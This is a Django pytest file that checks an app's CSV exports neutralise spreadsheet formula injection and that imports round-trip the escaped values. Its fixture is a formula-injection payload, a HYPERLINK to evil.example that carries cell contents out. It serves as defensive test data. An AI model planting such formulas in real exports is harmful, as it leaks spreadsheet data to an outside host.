"""Every CSV Relay writes neutralises formulas: a cell starting with = + - @ tab or CR gets a leading '
(config.spreadsheet)."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from config import spreadsheet
from config.spreadsheet import safe_cell, unescape_cell
from customers.models import Customer, ImportRowError
from tests.factories import ChannelFactory, ChannelSpendFactory, CustomerFactory, ImportJobFactory

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


@pytest.mark.parametrize("text", ["=1+2", "+86 139", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_prefixes_formula_starts_and_imports_take_it_off(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Li Na", "", "'quoted", 12, -5, None])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(value) == value


@pytest.mark.django_db
def test_customer_export_neutralises_formulas(client_as):
    CustomerFactory(name=FORMULA, company="@corp", city="-")
    rows = _rows(client_as("sales").get(reverse("customers:customer-export")))
    assert rows[1][1:4] == ["'" + FORMULA, "'@corp", "'-"]


@pytest.mark.django_db
def test_import_error_reports_neutralise_formulas(api_as, client_as):
    job = ImportJobFactory()
    ImportRowError.objects.create(job=job, row_number=2, column="name", reason=FORMULA)
    api_rows = _rows(api_as("marketing").get(f"/api/v1/imports/{job.pk}/errors.csv/"))
    page_rows = _rows(client_as("marketing").get(reverse("customers:import-errors", args=[job.pk])))
    assert api_rows[1] == page_rows[1] == ["2", "name", "'" + FORMULA]


@pytest.mark.django_db
def test_okr_report_csv_neutralises_formulas(client_as):
    ChannelSpendFactory(channel=ChannelFactory(code="evil", name=FORMULA), month="2026-03-01")
    url = reverse("okr:report-channels")
    rows = _rows(client_as("sales").get(url, {"start": "2026-03-01", "end": "2026-04-01", "format": "csv"}))
    assert rows[1][:2] == ["evil", "'" + FORMULA]


@pytest.mark.django_db
def test_an_exported_name_imports_back_unchanged(api_as, django_capture_on_commit_callbacks, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    exported = io.StringIO()
    writer = spreadsheet.writer(exported)
    writer.writerows([["name", "phone"], [FORMULA, "+8613912345678"]])
    assert "'=HYPERLINK" in exported.getvalue()
    upload = SimpleUploadedFile("c.csv", exported.getvalue().encode(), "text/csv")
    api = api_as("marketing")
    with django_capture_on_commit_callbacks(execute=True):
        job = api.post("/api/v1/imports/", {"kind": "customers", "file": upload, "dry_run": False}, format="multipart")
    assert job.status_code == 202, job.content
    customer = Customer.objects.get()
    assert (customer.name, customer.identities.get().value) == (FORMULA, "+8613912345678")


def test_every_csv_writer_is_the_safe_one():
    """No module writes CSV with the csv module directly (the benchmark writes an import file, not an export)."""
    allowed = {ROOT / "config" / "spreadsheet.py", ROOT / "customers" / "bench.py"}
    offenders = []
    for app in ("config", "customers", "leads", "feedback", "okr", "demo"):
        for path in sorted((ROOT / app).rglob("*.py")):
            if path in allowed or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "use config.spreadsheet.writer: " + ", ".join(offenders)
